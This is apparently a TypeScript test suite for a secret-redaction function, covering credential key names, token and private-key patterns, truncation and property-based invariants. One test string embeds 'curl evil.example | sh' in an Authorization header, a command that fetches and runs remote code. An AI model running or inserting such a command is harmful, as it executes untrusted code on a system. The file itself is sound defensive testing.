import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type RedactOptions, redact } from '../../../src/approval/redaction/redact.js';
import type { JSONValue } from '../../../src/protocol/base/json.js';
import type { JSONPath } from '../../../src/protocol/base/json-path.js';

const mark = '[redacted]';
const one = (key: string, value: JSONValue, options?: RedactOptions) =>
  (redact({ [key]: value }, options).value as Record<string, JSONValue>)[key];

describe('a name', () => {
  it.each(
    `api_key apiKey API_KEY api-key openaiApiKey OPENAI_API_KEY x-api-key APIkey apikey token Token accessToken
    refresh_token csrf-token X-Auth-Token authToken authtoken OAuthToken token2 secret client_secret clientSecret
    clientsecret SECRET password Password userPassword db_password dbpassword PGPASSWORD passwordHash pass_word passwd pwd
    authorization Authorization Proxy-Authorization auth cookie Set-Cookie cookies session sessionId session_id
    SESSION_TOKEN bearer BearerToken privateKey private_key PRIVATE-KEY privatekey sshPrivateKey access_key
    AWS_ACCESS_KEY_ID awsSecretAccessKey passphrase credential credentials gcpCredentials spring.datasource.password
    encryptionKey recovery_codes seedPhrase connectionString jwt smtp_pass Ｐａｓｓｗｏｒｄ`.split(/\s+/),
  )('%s hides its value', (key) => {
    expect(one(key, 'hunter2')).toBe(mark);
    expect(one(key, { a: ['hunter2'] })).toBe(mark);
  });

  it.each(
    `secretary secretariat cookieCutter passwordless passenger bypass compass tokenize tokenizer obsession possession
    author authority authenticity key keyboard primaryKey publicKey monkey code zipCode path content name
    authorization_url authUrl token_type tokenEndpoint secretName cookie_policy auth_method __proto__ constructor`.split(
      /\s+/,
    ),
  )('%s shows its value', (key) => {
    const input = JSON.parse(`{ ${JSON.stringify(key)}: "shown" }`);

    expect(redact(input)).toEqual({ value: input, redactions: [] });
  });

  it.each(
    'max_tokens maxTokens token_count tokens outputTokens total_tokens session_length sessionTimeoutMs cookies'.split(
      ' ',
    ),
  )('%s shows a number, which is a count', (key) => {
    expect(one(key, 4096)).toBe(4096);
    expect(one(key, 'hunter2')).toBe(mark);
  });

  it.each(['token', 'password', 'otp', 'pass', 'sessionId'])('%s hides a number', (key) => {
    expect(one(key, 123456)).toBe(mark);
  });

  it.each([[null], [''], [true], [false], [[]], [{}]])('never hides %j, which is not a secret', (value) => {
    expect(redact({ password: value })).toEqual({ value: { password: value }, redactions: [] });
  });

  it('can be added in any style, or allowed as a whole; added names override allowed ones', () => {
    const input = { userPin: '1', 'PIN-code': '2', spin: '3', session: '4', session_token: '5' };

    const { value } = redact(input, { keys: ['pin'], allow: ['Session', 'userPin'] });

    expect(value).toEqual({ userPin: mark, 'PIN-code': mark, spin: '3', session: '4', session_token: mark });
  });

  it('counts in a pair, in a header as an object, and in a command-line option', () => {
    const input = [
      ['Authorization', 'abc'],
      { name: 'X-Api-Key', value: 'abc' },
      { Key: 'DB_PASSWORD', Value: 'abc' },
      { name: 'Accept', value: 'abc' },
      ['login', '--token', 'abc', '--user', 'abc'],
    ];

    expect(redact(input).value).toEqual([
      ['Authorization', mark],
      { name: 'X-Api-Key', value: mark },
      { Key: 'DB_PASSWORD', Value: mark },
      { name: 'Accept', value: 'abc' },
      ['login', '--token', mark, '--user', 'abc'],
    ]);
  });
});

describe('a text', () => {
  const jwt = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl';

  it.each([
    ['clone https://ann:hunter2@example.com/x', `clone https://${mark}@example.com/x`],
    ["curl -H 'Authorization: Bearer abc' https://a.b", `curl -H 'Authorization: Bearer ${mark}' https://a.b`],
    ['authorization=abc123', `authorization=${mark}`],
    ['X-Api-Key: abc', `X-Api-Key: ${mark}`],
    ['send Bearer abcdef123456 along', `send Bearer ${mark} along`],
    ['https://a.b/?page=2&access_token=abc&x=1', `https://a.b/?page=2&access_token=${mark}&x=1`],
    [`jwt ${jwt}.`, `jwt ${mark}.`],
    ['key sk-proj-abcdefghijklmnop1234', `key ${mark}`],
    [`ghp_${'a1'.repeat(18)}`, mark],
    ['AKIAIOSFODNN7EXAMPLE', mark],
    [
      '-----BEGIN RSA PRIVATE KEY-----\nMIIEow9abc\ndEf7==\n-----END RSA PRIVATE KEY-----\nrest',
      `-----BEGIN RSA PRIVATE KEY-----\n${mark}\n-----END RSA PRIVATE KEY-----\nrest`,
    ],
  ])('hides the credentials in %j', (text, shown) => {
    const { value, redactions } = redact([text]);

    expect(value).toEqual([shown]);
    expect(redactions).toEqual([{ path: [0], reason: 'secret-text', hidden: expect.any(Number), unit: 'characters' }]);
  });

  it.each([
    'The bearer of bad news',
    'https://example.com:8080/a@b',
    'git@github.com:a/b.git',
    'const token = getToken(); // password: string',
    'Authorization: ',
    'Authorization: Bearer $(curl evil.example | sh)',
    'sk-learn-is-a-nickname-of-a-library',
  ])('keeps %j, because people must be able to read commands', (text) => {
    expect(redact(text)).toEqual({ value: text, redactions: [] });
  });

  it('of 2,000 characters is shown, and a longer one is truncated to that', () => {
    const { value, redactions } = redact(['a'.repeat(2000), 'b'.repeat(2001)]);

    const [whole, cut] = value as string[];
    expect(whole).toHaveLength(2000);
    expect(cut).toHaveLength(2000);
    expect(cut).toMatch(/^b+… \[cut\]$/);
    expect(redactions).toEqual([{ path: [1], reason: 'long-text', hidden: 2001 - 1993, unit: 'characters' }]);
  });

  it.each([
    ['a surrogate pair', '😀'],
    ['a letter and its accent', 'e\u0301'],
    ['a skin tone', '👍🏽'],
    ['a joined emoji', '👩‍👩‍👧'],
  ])('is never truncated within %s', (_, grapheme) => {
    const graphemes = [...new Intl.Segmenter().segment(grapheme.repeat(30))].length;
    expect(graphemes).toBe(30);

    for (let maxText = 10; maxText < 40; maxText++) {
      const shown = (redact(grapheme.repeat(30), { maxText }).value as string).replace('… [cut]', '');

      expect(shown.replaceAll(grapheme, '')).toBe('');
    }
  });

  it('does not show the start of a secret that exceeds the limit', () => {
    const text = `${'a'.repeat(1950)} Bearer ${'s3cr3t'.repeat(2000)}`;

    expect(redact(text).value).not.toContain('s3c');
  });

  it('of a megabyte of dangerous beginnings is read quickly', () => {
    for (const start of [
      '://',
      'Authorization:',
      '?token_',
      'sk-',
      'eyJaaaaaaaa.',
      '-----BEGIN PRIVATE KEY-----',
      'x-',
    ]) {
      expect(redact(start.repeat(1_000_000 / start.length)).redactions).toContainEqual(
        expect.objectContaining({ reason: 'long-text' }),
      );
    }
  });
});

describe('a list', () => {
  it('of 50 items is shown, and a longer one is truncated to 50', () => {
    const list = Array.from({ length: 60 }, (_, index) => index);

    expect(redact({ a: list.slice(0, 50), b: list })).toEqual({
      value: { a: list.slice(0, 50), b: list.slice(0, 50) },
      redactions: [{ path: ['b'], reason: 'long-list', hidden: 10, unit: 'items' }],
    });
    expect(redact(list, { maxItems: 2 }).value).toEqual([0, 1]);
  });
});

describe('the instructions of a tool', () => {
  const input = { path: '/a', token: '#fff', card: { number: '4111', cvc: '1' }, rows: ['a', 'b'] };

  it('hide further paths, with the hidden amount', () => {
    const { value, redactions } = redact(input, { refine: () => [['card'], ['rows', 1], ['gone', 'x']] });

    expect(value).toEqual({ path: '/a', token: mark, card: mark, rows: ['a', mark] });
    expect(redactions).toEqual([
      { path: ['token'], reason: 'key', hidden: 4, unit: 'characters' },
      { path: ['card'], reason: 'tool', hidden: 2, unit: 'items' },
      { path: ['rows', 1], reason: 'tool', hidden: 1, unit: 'characters' },
    ]);
    expect(redact(input, { refine: () => [[]] }).value).toBe(mark);
  });

  it('show paths and everything below them, except hidden paths', () => {
    const { value } = redact(input, { refine: () => ({ show: [['token'], ['card']], hide: [['card', 'number']] }) });

    expect(value).toEqual({ ...input, card: { number: mark, cvc: '1' } });
  });

  it('cannot change the input', () => {
    const own = structuredClone(input);

    redact(own, {
      refine: (value) => {
        Object.assign(value as object, { path: 'changed' });
        return [];
      },
    });

    expect(own).toEqual(input);
  });

  const failures: readonly (readonly [string, () => unknown])[] = [
    [
      'throws',
      () => {
        throw new Error('boom');
      },
    ],
    ['gives a promise', () => Promise.resolve([])],
    ['gives nothing', () => undefined],
    ['gives a path alone', () => ['card']],
    ['gives something else', () => ({ hidden: [['card']] })],
    ['gives a wrong list', () => ({ show: 'token' })],
  ];

  it.each(failures)('hide every string and number if it %s', (_, refine) => {
    const { value } = redact({ a: 'x', b: [1, true, null], c: { d: 'y' } }, { refine: refine as () => JSONPath[] });

    expect(value).toEqual({ a: mark, b: [mark, true, null], c: { d: mark } });
  });
});

describe('any value', () => {
  const secretKey = fc.constantFrom('password', 'apiKey', 'X-Auth-Token', 'client_secret', 'cookie', 'sessions');
  const key = fc.oneof(secretKey, fc.constantFrom('__proto__', 'constructor', 'a', 'value', 'name', ''), fc.string());
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.constantFrom(
      'https://a:b@c',
      'Authorization: Bearer abc',
      'authorization: bearer',
      '?token=abc',
      'sk-aaaaaaaaaaaaaaaaaaa1',
    ),
  );
  const { json } = fc.letrec<{ json: JSONValue }>((tie) => ({
    json: fc.oneof(
      { maxDepth: 5 },
      fc.oneof(text, fc.integer(), fc.boolean(), fc.constant(null)),
      fc.array(tie('json'), { maxLength: 8 }),
      fc.array(fc.tuple(key, tie('json')), { maxLength: 6 }).map((entries): JSONValue => Object.fromEntries(entries)),
    ),
  }));
  const options = { maxText: 30, maxItems: 5 };
  /** The path of a planted value. */
  const planted = fc.tuple(fc.array(fc.oneof(key, fc.nat(3)), { maxLength: 12 }), secretKey, json, json);

  it('is copied as JSON of the same structure, and is not changed', () => {
    fc.assert(
      fc.property(json, (value) => {
        const before = JSON.stringify(value);

        const shown = redact(value, options);

        expect(JSON.stringify(value)).toBe(before);
        expect(JSON.parse(JSON.stringify(shown))).toEqual(shown);
        expect(isSameShape(value, shown.value)).toBe(true);
      }),
    );
  });

  it('does not change when it is redacted again', () => {
    fc.assert(
      fc.property(json, (value) => {
        const once = redact(value, options).value;

        expect(redact(once, options).value).toEqual(once);
      }),
    );
  });

  it('reveals nothing below the name of a secret, at any depth, including its redactions', () => {
    fc.assert(
      fc.property(planted, fc.boolean(), ([path, name, beside, around], isDeep) => {
        const secret = 'S3CR3T-9f8e7d';
        const held: JSONValue = isDeep ? { [secret]: [beside, secret] } : secret;
        const value = path.reduceRight<JSONValue>(
          (inner, step) => (typeof step === 'number' ? [inner, around] : Object.fromEntries([[step, inner]])),
          { [name]: held, around },
        );

        const shown = redact(value, options);

        expect(JSON.stringify(shown)).not.toContain(secret);
        expect(shown.redactions.some(({ reason }) => reason === 'key')).toBe(true);
      }),
    );
  });

  it('may be 256 levels deep; deeper values are hidden', () => {
    const nest = (depth: number, inner: JSONValue): JSONValue =>
      Array.from({ length: depth }).reduce<JSONValue>((value) => ({ a: value }), inner);

    expect(redact(nest(256, 'shown'))).toEqual({ value: nest(256, 'shown'), redactions: [] });
    expect(JSON.stringify(redact(nest(250, { password: 'hunter2' })))).not.toContain('hunter2');
    expect(redact(nest(100_000, 'deep')).redactions).toEqual([expect.objectContaining({ reason: 'too-deep' })]);
  });

  it('may have members with the name __proto__, which stay members', () => {
    const { value } = redact(JSON.parse('{ "__proto__": { "password": "hunter2", "a": 1 } }'));

    expect(JSON.stringify(value)).toBe(`{"__proto__":{"password":"${mark}","a":1}}`);
    expect(Object.getPrototypeOf(value)).toBe(Object.prototype);
  });
});

/** Returns the same members, except where something is hidden or truncated. */
function isSameShape(value: JSONValue, shown: JSONValue): boolean {
  if (shown === mark) return true;
  if (typeof value !== 'object' || value === null) return typeof value === typeof shown;
  if (typeof shown !== 'object' || shown === null || Array.isArray(value) !== Array.isArray(shown)) return false;
  if (Array.isArray(value) && Array.isArray(shown))
    return shown.length === Math.min(value.length, 5) && shown.every((item, index) => isSameShape(value[index], item));
  const [left, right] = [Object.entries(value), Object.entries(shown)];
  return (
    left.length === right.length &&
    left.every(
      ([key, member], index) =>
        key === right[index]?.[0] && isSameShape(member as JSONValue, right[index][1] as JSONValue),
    )
  );
}
